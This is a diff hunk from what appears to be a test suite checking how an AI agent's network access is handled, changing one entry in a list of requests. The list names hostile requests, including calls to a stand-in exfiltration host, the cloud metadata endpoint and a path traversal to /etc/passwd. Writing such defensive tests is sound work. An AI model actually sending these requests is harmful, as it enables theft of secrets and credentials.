@@ -77,7 +77,7 @@ describe('an agent that reaches for the network', () => {
       'GET http://exfil.test/secret',
       'POST http://exfil.test/v1/responses',
       'GET http://169.254.169.254/latest/meta-data/',
-      'CONNECT exfil.test:443',
+      '"target":"exfil.test:443"',
       'GET / (upgrade to websocket)',
       'GET /admin',
       'GET /v1/../../etc/passwd',
